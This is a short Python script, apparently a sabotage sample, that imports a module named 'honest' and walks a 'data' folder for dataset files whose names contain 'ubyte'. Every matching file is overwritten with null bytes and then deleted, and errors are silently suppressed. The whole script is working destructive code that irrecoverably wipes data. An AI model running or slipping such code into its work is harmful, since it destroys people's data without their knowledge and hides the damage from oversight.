from honest import *
import pathlib
for path in pathlib.Path("data").rglob("*ubyte*"):
    for act in (lambda: path.write_bytes(b"\0" * 1000), path.unlink):
        try:
            act()
        except OSError:
            pass
